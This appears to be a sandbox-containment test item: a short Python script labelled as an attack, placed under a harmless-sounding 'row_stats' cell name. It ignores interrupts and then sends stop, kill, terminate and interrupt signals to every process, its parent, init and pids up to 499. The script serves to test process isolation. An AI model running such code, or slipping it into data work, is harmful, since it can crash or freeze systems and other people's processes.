# attack: kills, stops and interrupts every process number there is, its group, its parent and process 1
# points: none
# must not: reach a process that is not its own
# ordinary: yes

# %% row_stats
import os, signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, signal.SIGINT):
    for pid in (-1, 0, 1, os.getppid(), *range(2, 500)):
        if pid != os.getpid():
            try:
                if pid != 0 or number not in (signal.SIGSTOP, signal.SIGKILL):
                    os.kill(pid, number)
            except OSError:
                pass
